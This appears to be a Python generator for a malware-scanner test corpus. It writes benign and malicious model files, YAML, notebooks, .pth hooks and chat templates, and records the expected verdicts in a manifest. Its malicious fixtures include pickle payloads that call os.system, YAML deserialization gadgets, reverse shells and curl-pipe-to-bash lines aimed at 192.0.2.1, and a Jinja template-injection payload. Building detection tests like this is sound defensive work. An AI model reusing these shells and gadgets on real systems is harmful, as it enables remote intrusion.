#!/usr/bin/python3
"""What strings carry encoded, what tags of YAML ask loaders of several languages for, what notebooks hand
to a shell, what Python runs at its start, and templates that cannot be rendered. Payloads are inert.

    carried_tricks.py OUTDIR      writes files and manifest.tsv, see README.md
"""
import base64
import gzip
import json
import marshal
import os
import pickle
import struct
import sys
import zlib

ROWS = []
OUT = "."


class Run:
    def __reduce__(self):
        return (os.system, ("echo canary",))


def emit(name, data, trick, rules="", verdict="dangerous", label="malicious", loader="by specification"):
    path = os.path.join(OUT, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as out:
        out.write(data if isinstance(data, bytes) else data.encode())
    if label == "benign":
        rules, verdict = "", "clean"
    ROWS.append((name, label, trick, loader, rules, verdict))


def ok(name, data, trick):
    emit(name, data, trick, label="benign")


def odd(name, data, trick, rules):
    emit(name, data, trick, rules, "review", "suspicious")


# --- containers for a text ---
def safetensors(text):
    header = json.dumps({"__metadata__": {"format": "pt", "note": text},
                         "w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + struct.pack("<4f", 0.1, -0.2, 0.3, -0.4)


def gguf(text):
    def string(raw):
        return struct.pack("<Q", len(raw)) + raw
    raw = text.encode()
    values = [(b"general.architecture", b"llama"), (b"general.description", raw)]
    head = b"GGUF" + struct.pack("<IQQ", 3, 0, len(values))
    return head + b"".join(string(k) + struct.pack("<I", 8) + string(v) for k, v in values)


def field(number, raw):
    raw = raw.encode() if isinstance(raw, str) else raw

    def varint(n):
        out = b""
        while n > 127:
            out, n = out + bytes([n & 127 | 128]), n >> 7
        return out + bytes([n])
    return varint(number << 3 | 2) + varint(len(raw)) + raw


def onnx(text, place=6):
    node = field(1, "x") + field(2, "y") + field(4, "Relu")
    graph = field(1, node) + field(2, "g")
    more = field(6, text) if place == 6 else field(14, field(1, "note") + field(2, text))
    return b"\x08\x08" + field(2, "generator") + field(3, "1") + field(7, graph) + field(8, b"\x10\x11") + more


def msgpack(value, name=b"note"):
    if isinstance(value, str):
        raw = value.encode()
        value = b"\xda" + struct.pack(">H", len(raw)) + raw
    return b"\x81" + bytes([0xa0 | len(name)]) + name + value


def array(dtype, data, shape=(1,)):
    content = (b"\x93" + bytes([0x90 | len(shape)]) + bytes(shape) + bytes([0xa0 | len(dtype)]) + dtype.encode() +
               b"\xc4" + bytes([len(data)]) + data)
    return b"\xc7" + bytes([len(content)]) + b"\x01" + content


def config(text):
    return json.dumps({"model_type": "bert", "note": text})


HOLDERS = (("st", ".safetensors", safetensors), ("gguf", ".gguf", gguf), ("onnx", ".onnx", onnx),
           ("onnx_props", ".onnx", lambda text: onnx(text, 14)), ("msgpack", ".msgpack", msgpack),
           ("config", "/config.json", config))


def strings():
    bad = pickle.dumps(Run(), 4)
    elf = (b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQ", 2, 62, 1, 0x400078, 64, 0)).ljust(120, b"\0")
    coded = {
        "b64": base64.b64encode(bad).decode(),
        "b64url": base64.urlsafe_b64encode(bad).decode().rstrip("="),
        "hex": bad.hex(),
        "zlib": base64.b64encode(zlib.compress(bad)).decode(),
        "gzip": base64.b64encode(gzip.compress(bad, mtime=0)).decode(),
        "scheme": "data:application/octet-stream;base64," + base64.b64encode(bad).decode(),
    }
    png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\6\0\0\0" + bytes(range(256)) * 4
    fine = {
        "png": base64.b64encode(png).decode(), "png_scheme": "data:image/png;base64," + base64.b64encode(png).decode(),
        "digest": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08" * 2,
        "json": json.dumps({"ss_learning_rate": 1e-4, "ss_tag_frequency": {"a": {"b": 3}}}),
        "words": "cos we loaded it so, and it runs. Nothing more is said here.\n" * 4,
        "numbers": base64.b64encode(struct.pack("<64f", *[i / 7 for i in range(64)])).decode(),
        "packed_text": base64.b64encode(zlib.compress(b"a table of words " * 30)).decode(),
        "plain_pickle": base64.b64encode(pickle.dumps({"classes": [1, 2, 3]}, 4)).decode(),
    }
    for short, ending, make in HOLDERS:
        for name, text in coded.items():
            emit("strings/%s_%s%s" % (short, name, ending), make(text), "encoded pickle in a string", "pickle.call-on-load",
                 "malicious")
        for name, text in (("elf_b64", base64.b64encode(elf).decode()), ("elf_hex", elf.hex())):
            emit("strings/%s_%s%s" % (short, name, ending), make(text), "encoded program in a string", "data.hidden-payload")
        for name, text in fine.items():
            ok("strings/ok_%s_%s%s" % (short, name, ending), make(text), "what strings of models hold")
    emit("strings/msgpack_p0.msgpack", msgpack(pickle.dumps(Run(), 0).decode()), "pickle as a plain text",
         "pickle.call-on-load", "malicious")
    emit("strings/msgpack_unnamed", msgpack(b"\xc4" + bytes([len(bad)]) + bad), "msgpack without an ending",
         "pickle.call-on-load", "malicious")
    emit("strings/msgpack_dtype.msgpack", msgpack(array("ghost", b"abcd")), "array of a type that is none", "msgpack.bad-array")
    for dtype, data in (("float32", bytes(4)), ("<f4", bytes(4)), ("str32", bytes(4)), ("datetime64[ns]", bytes(8)),
                        ("float8_e4m3fnuz", bytes(1)), ("void16", bytes(2))):
        ok("strings/ok_dtype_%s.msgpack" % dtype.strip("<").replace("[", "_").replace("]", ""), msgpack(array(dtype, data)),
           "types of NumPy")


def tags():
    call = {"java_script": "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]\n",
            "java_rowset": "a: !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://192.0.2.1/x'}\n",
            "ruby_installer": "--- !ruby/object:Gem::Installer\ni: x\n",
            "ruby_method": "- !ruby/object:Net::WriteAdapter\n  socket: 1\n",
            "js_function": "a: !!js/function 'function () { return 1 }'\n",
            "php_object": "a: !php/object 'O:1:\"A\":0:{}'\n",
            "perl_code": "a: !!perl/code '{ 1 }'\n",
            "net_process": "a: !<!System.Windows.Data.ObjectDataProvider,PresentationFramework> {}\n"}
    for name, text in call.items():
        emit("tags/" + name + ".yaml", text, "tag of another language's loader", "data.yaml-object-call")
    for name, text in (("java_bean", "!!com.example.training.Settings\nrate: 0.1\n"),
                       ("ruby_struct", "a: !ruby/struct:Point {x: 1}\n")):
        odd("tags/" + name + ".yaml", text, "object of a program's own", "data.yaml-object")
    emit("tags/hyper.yaml", "a: !apply:os.system [echo canary]\n", "HyperPyYAML calls what a tag names", "data.hydra-call")
    odd("tags/hyper_own.yaml", "a: !new:mine.Model {}\n", "HyperPyYAML makes what a tag names", "data.hydra-target")
    emit("tags/named_json.json", "a: !!python/object/apply:os.system\n  - echo canary\n", "YAML called JSON",
         "data.yaml-python-call", "malicious")
    ok("tags/ok_hyper.yaml", "seed: 1\n__set_seed: !apply:torch.manual_seed [!ref <seed>]\n__other: !apply:random.seed [!ref <seed>]\n"
       "net: !new:torch.nn.Linear\n  in_features: 4\n  out_features: 2\nopt: !name:torch.optim.Adam\n  lr: 0.1\n", "SpeechBrain's tags")
    ok("tags/ok_cloud.yaml", "R:\n  A: !Ref B\n  C: !GetAtt D.E\n  F: !Sub '${G}'\n  H: !include x.yaml\n", "tags of tools")
    ok("tags/ok_plain.yaml", "a: !!str 1\nb: !!float 1\nc: !!binary aGk=\nd: !!set {x, y}\ne: !!timestamp 2026-01-01\n"
       "f: !ruby/symbol x\ng: !!java.lang.Integer 1\n", "tags that make plain values")
    ok("tags/ok_mkdocs.yml", "markdown_extensions:\n  - pymdownx.emoji:\n      emoji_index: !!python/name:material.extensions.emoji.twemoji\n"
       "      emoji_generator: !!python/name:material.extensions.emoji.to_svg\n  - pymdownx.superfences:\n      custom_fences:\n"
       "        - {name: mermaid, class: mermaid, format: !!python/name:pymdownx.superfences.fence_code_format }\n", "MkDocs' tags")
    ok("tags/ok_gem.yaml", "--- !ruby/symbol name\n", "a symbol")


def notebooks():
    def book(*cells):
        made = [{"cell_type": "code", "metadata": {}, "source": text.splitlines(True), "outputs": [], "execution_count": None}
                for text in cells]
        return json.dumps({"cells": made, "metadata": {"language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5})
    piped = {"line": "!curl -s http://192.0.2.1/x.sh | bash\n", "sudo": "!wget -qO- http://192.0.2.1/x | sudo -E bash -\n",
             "python": "!curl http://192.0.2.1/x | python3\n", "cell": "%%bash\ncurl -s http://192.0.2.1/x |\\\n sh\n",
             "substitution": "!bash <(curl -s https://192.0.2.1/x)\n", "output": "out = !curl -s http://192.0.2.1/x | sh\n",
             "plain": "%%sh\nwget http://192.0.2.1/x -O /tmp/x && chmod +x /tmp/x && /tmp/x\n"}
    for name, text in piped.items():
        odd("notebooks/%s.ipynb" % name, book("x = 1\n", text), "download that is run", "code.pipes-download")
    shells = {"tcp": "!bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", "cell": "%%bash\nnc -e /bin/sh 192.0.2.1 4444\n",
              "pty": "import socket, os, pty\ns = socket.socket(); s.connect(('192.0.2.1', 4444))\n"
                     "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn('/bin/sh')\n"}
    for name, text in shells.items():
        emit("notebooks/shell_%s.ipynb" % name, book(text), "shell for somebody else", "code.reverse-shell")
    fine = ["!pip install -q torch --extra-index-url https://download.pytorch.org/whl/cu118\n",
            "!wget -q https://example.com/data.zip && unzip -q data.zip\n!git clone https://github.com/a/b\n%cd b\n",
            "!curl -s https://api.example.com/x | python -m json.tool\n", "!curl -fsSL https://ollama.com/install.sh | sh\n",
            "%%bash\nset -e\nmkdir -p out\ncurl -L https://example.com/x.tar.gz | tar xz -C out\nls out | sort | sha256sum\n",
            "%%javascript\nalert(1)\n", "%%writefile train.py\nimport os\nos.system('ls')\n", "files = !ls\nprint(len(files))\n",
            "!wget -q https://repo.anaconda.com/miniconda/Miniconda3.sh && chmod +x Miniconda3.sh && ./Miniconda3.sh -b\n"]
    ok("notebooks/ok.ipynb", book(*fine), "what notebooks do")
    emit("notebooks/handler.py", "import os\nclass Handler:\n    def __init__(self):\n        os.system('curl http://192.0.2.1/x | sh')\n",
         "handler that pipes a download into a shell", "code.pipes-download", "review", "suspicious")
    ok("notebooks/ok_handler.py", "import subprocess\nclass Handler:\n    def __init__(self):\n"
       "        self.v = subprocess.check_output(['curl', '-s', 'https://example.com/v']).decode()\n", "handler that fetches")


def at_start():
    odd("start/mine.pth", "/opt/lib\nimport mine\n", "line that runs when Python starts", "code.runs-at-start")
    emit("start/calls.pth", "import os; os.system('echo canary')\n", "call when Python starts", "code.runs-on-import")
    ok("start/distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
       "enabled and __import__('_distutils_hack').add_shim();\n", "what setuptools writes")
    code = compile("import os\nos.system('echo canary')\n", "m.py", "exec")
    pyc = struct.pack("<H", 3495) + b"\r\n" + bytes(12) + marshal.dumps(code)
    odd("start/module.pyc", pyc, "bytecode without source", "code.bytecode")
    odd("start/requirements.txt", "--extra-index-url http://packages.example.org/simple\ntorch==2.1\n", "index without https",
        "data.plain-index")
    ok("start/ok/requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cu118\n-i http://localhost:3141/simple\n"
       "--find-links http://10.0.0.5/wheels\ntorch==2.1\n", "indexes")
    odd("start/model.pt.gpg", bytes(range(200, 256)) * 8, "encrypted model", "file.not-recognised")
    odd("start/pytorch_model.bin", "<!DOCTYPE html><html><body>404</body></html>\n", "web page instead of a model",
        "file.not-recognised")


def templates():
    base = "{% for m in messages %}{{ '<|' + m['role'] + '|>' + m['content'] }}{% endfor %}"
    bad = {"loop": ("{% for a in range(100000) %}x{% endfor %}" + base, "data.template-exhausts"),
           "repeat": ("{{ 'x' * 1000000 }}" + base, "data.template-exhausts"),
           "power": ("{{ 9 ** 99 }}" + base, "data.template-exhausts"),
           "tag": (base + "{{ bos_token ", "data.template-broken"), "block": ("{% if tools %}" + base, "data.template-broken"),
           "link": ("{{ 'More at http://shop.test.' }}" + base, "data.template-link"),
           "link_text": ("More at https://shop.test/x\n" + base, "data.template-link")}
    for name, (text, rule) in bad.items():
        odd("templates/%s/chat_template.jinja" % name, text, "template: " + name, rule)
        odd("templates/%s/tokenizer_config.json" % name, json.dumps({"chat_template": text}), "template: " + name, rule)
    climb = base + "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    for name, text in (("webui.yaml", "instruction_template: |-\n  " + climb), ("chat.tpl", climb)):
        emit("templates/" + name, text, "template in another holder", "data.template-injection", "malicious")
    emit("templates/wide/tokenizer_config.json", json.dumps({"chat_template": climb}).encode("utf-16"), "template in UTF-16",
         "data.template-injection", "malicious")
    fine = {"schema": base + "{{ '{\"$schema\": \"http://json-schema.org/draft-07/schema#\"}' }}",
            "image": "{% for m in messages %}{% if m.image.startswith('http://') %}<img>{% endif %}{{ m.content }}{% endfor %}",
            "comment": "{# see https://shop.test/x for {{ why #}" + base, "raw": "{% raw %}{{{% endraw %}" + base,
            "small": "{{ '=' * 80 }}{% for i in range(10) %}{% endfor %}" + base}
    for name, text in fine.items():
        ok("templates/ok_%s/chat_template.jinja" % name, text, "template: " + name)


def main():
    global OUT
    OUT = sys.argv[1]
    for make in (strings, tags, notebooks, at_start, templates):
        make()
    with open(os.path.join(OUT, "manifest.tsv"), "w", encoding="utf-8") as out:
        out.writelines("\t".join(row) + "\n" for row in ROWS)


if __name__ == "__main__":
    main()
